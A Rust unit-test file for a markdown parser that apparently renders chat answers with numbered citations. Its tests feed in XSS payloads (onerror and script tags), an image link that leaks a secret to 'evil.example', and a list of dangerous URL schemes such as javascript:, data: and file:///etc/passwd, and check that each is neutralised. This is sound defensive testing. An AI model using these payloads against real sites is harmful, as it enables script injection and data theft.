use super::*;

fn text(text: &str) -> Inline {
    Inline::Text(text.to_owned())
}

fn cite(number: u32, occurrence: u32) -> Inline {
    Inline::Citation { number, occurrence }
}

#[test]
fn citations_are_found_in_running_text_only() {
    assert_eq!(
        parse("Blue [1], **red [12]**. `[3]` [see [4]](https://example.com) [2026] [0] [x]"),
        vec![Block::Paragraph(vec![
            text("Blue"),
            cite(1, 0),
            text(", "),
            Inline::Strong(vec![text("red"), cite(12, 1)]),
            text(". "),
            Inline::Code("[3]".into()),
            text(" "),
            Inline::Link { href: "https://example.com".into(), content: vec![text("see [4]")] },
            text(" [2026] [0] [x]"),
        ])]
    );
    assert_eq!(parse("a [1] [2]"), vec![Block::Paragraph(vec![text("a"), cite(1, 0), cite(2, 1)])]);
}

#[test]
fn html_stays_text_and_images_become_their_description() {
    assert_eq!(
        parse("a <img src=x onerror=alert(1)> ![the **plan**](https://evil.example/?q=secret)"),
        vec![Block::Paragraph(vec![text("a <img src=x onerror=alert(1)> the "), Inline::Strong(vec![text("plan")])])]
    );
    assert_eq!(
        parse("<script>\nalert(1)\n</script>"),
        vec![Block::Paragraph(vec![text("<script>\nalert(1)\n</script>")])]
    );
    assert_eq!(parse("![[1]][ref]\n\n[ref]: https://evil.example/x.png"), vec![Block::Paragraph(vec![cite(1, 0)])]);
    // Its description may hold a link, but no more than text may.
    assert_eq!(
        parse("![a [b](javascript:c) `d`](x)"),
        vec![Block::Paragraph(vec![text("a b "), Inline::Code("d".into())])]
    );
}

#[test]
fn links_lead_to_the_web_or_to_mail_only() {
    for bad in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\u{1}script:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example",
        "/auth/logout",
        "#x",
        "",
    ] {
        assert_eq!(safe_href(bad), None, "{bad:?}");
    }
    assert_eq!(safe_href(" HTTPS://example.com/a:b "), Some("HTTPS://example.com/a:b".into()));
    assert_eq!(safe_href("mailto:a@example.com"), Some("mailto:a@example.com".into()));
    assert_eq!(parse("[a](javascript:alert(1))"), vec![Block::Paragraph(vec![text("a")])]);
    assert_eq!(parse("<javascript:alert(1)>"), vec![Block::Paragraph(vec![text("javascript:alert(1)")])]);
}

#[test]
fn blocks_keep_their_structure() {
    assert_eq!(
        parse("# A\n\n- b\n- c\n  1. d\n\n> e\n\n```rust x\nf[1]\n```\n\n---"),
        vec![
            Block::Heading(1, vec![text("A")]),
            Block::List(
                None,
                vec![
                    vec![Block::Plain(vec![text("b")])],
                    vec![
                        Block::Plain(vec![text("c")]),
                        Block::List(Some(1), vec![vec![Block::Plain(vec![text("d")])]])
                    ],
                ]
            ),
            Block::Quote(vec![Block::Paragraph(vec![text("e")])]),
            Block::Code {
                language: Some("rust".into()),
                text: "f[1]\n".into(),
                marks: vec![Mark { start: 2, end: 3, token: highlight::Token::Number }],
            },
            Block::Rule,
        ]
    );
    assert_eq!(
        parse("| a | b |\n|---|--:|\n| 1 [1] | 2 |"),
        vec![Block::Table(Table {
            columns: vec![Align::Start, Align::End],
            head: vec![vec![text("a")], vec![text("b")]],
            rows: vec![vec![vec![text("1"), cite(1, 0)], vec![text("2")]]],
        })]
    );
}

#[test]
fn direction_overrides_are_taken_out() {
    assert_eq!(
        parse("a\u{202e}b\u{2066}c `\u{202d}d`"),
        vec![Block::Paragraph(vec![text("abc "), Inline::Code("d".into())])]
    );
}

#[test]
fn code_is_coloured_up_to_a_limit() {
    let fence = |numbers: usize| format!("```js\n{}\n```\n\n", "1 ".repeat(numbers));
    let coloured: Vec<usize> = parse(&[fence(12_000), fence(12_000), fence(8_000)].concat())
        .iter()
        .map(|block| if let Block::Code { marks, .. } = block { marks.len() } else { 0 })
        .collect();
    assert_eq!(coloured, [12_000, 0, 8_000]);
}

fn depth(blocks: &[Block]) -> usize {
    blocks
        .iter()
        .map(|block| match block {
            Block::Quote(inner) => 1 + depth(inner),
            Block::List(_, items) => 1 + items.iter().map(|item| depth(item)).max().unwrap_or(0),
            _ => 1,
        })
        .max()
        .unwrap_or(0)
}

#[test]
fn what_is_nested_without_end_is_flattened_and_loses_no_word() {
    let quotes = format!("{}deep", "> ".repeat(5_000));
    let blocks = parse(&quotes);
    assert!(depth(&blocks) <= MAX_DEPTH + 1, "{}", depth(&blocks));
    assert!(format!("{blocks:?}").contains("deep"));

    let lists: String = (0..400).map(|level| format!("{}- item{level}\n", "  ".repeat(level))).collect();
    let blocks = parse(&lists);
    assert!(depth(&blocks) <= MAX_DEPTH + 1);
    let shown = format!("{blocks:?}");
    assert!((0..400).all(|level| shown.contains(&format!("item{level}"))));

    let emphasis = format!("{}x{}", "*a **b ".repeat(2_000), "** *".repeat(2_000));
    assert!(format!("{:?}", parse(&emphasis)).contains('x'));
}

#[test]
fn the_last_list_that_has_a_frame_keeps_the_items_that_have_none() {
    for quotes in 1..=MAX_DEPTH {
        for lists in 1..=MAX_DEPTH {
            let nested = format!("{} {}deep", ">".repeat(quotes), "- ".repeat(lists));
            assert!(format!("{:?}", parse(&nested)).contains("deep"), "{nested}");
        }
    }
}

#[test]
fn half_an_answer_is_shown_as_far_as_it_goes() {
    assert_eq!(parse("```\nlet a"), vec![Block::Code { language: None, text: "let a".into(), marks: vec![] }]);
    assert_eq!(parse("so **bo"), vec![Block::Paragraph(vec![text("so **bo")])]);
    assert_eq!(parse("as said [1"), vec![Block::Paragraph(vec![text("as said [1")])]);
    assert_eq!(parse(""), vec![]);
}

#[test]
fn a_numeral_in_a_document_is_a_numeral() {
    assert_eq!(parse_document("as said [1]"), vec![Block::Paragraph(vec![text("as said [1]")])]);
}
